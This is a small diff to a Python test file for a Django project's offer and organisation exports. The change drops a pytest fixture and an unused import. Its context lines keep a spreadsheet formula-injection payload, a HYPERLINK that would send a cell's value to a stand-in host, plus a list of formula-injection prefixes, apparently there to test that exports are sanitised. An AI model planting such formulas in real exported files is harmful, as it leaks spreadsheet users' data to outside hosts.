@@ -17,7 +17,7 @@ from icalendar import Calendar
 
 from tests.interfaces.making import EDITOR, checked, imported
 from tests.offers.factories import draft, municipality, text
-from tests.world import World, make_world
+from tests.world import World
 from vielklang.core.models import AuditEntry
 from vielklang.core.scope import centre_scope
 from vielklang.interfaces.exports import offer_forms, organisation_forms
@@ -32,11 +32,6 @@ from vielklang.offers.models import Offer
 pytestmark = pytest.mark.django_db
 EVIL = '=HYPERLINK("https://example.org/?x="&A1;"Klick")'
 FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "''+1", "＝1", " =1")
-
-
-@pytest.fixture
-def world() -> World:
-    return make_world()
 
 
 SERIES = DateDraft(
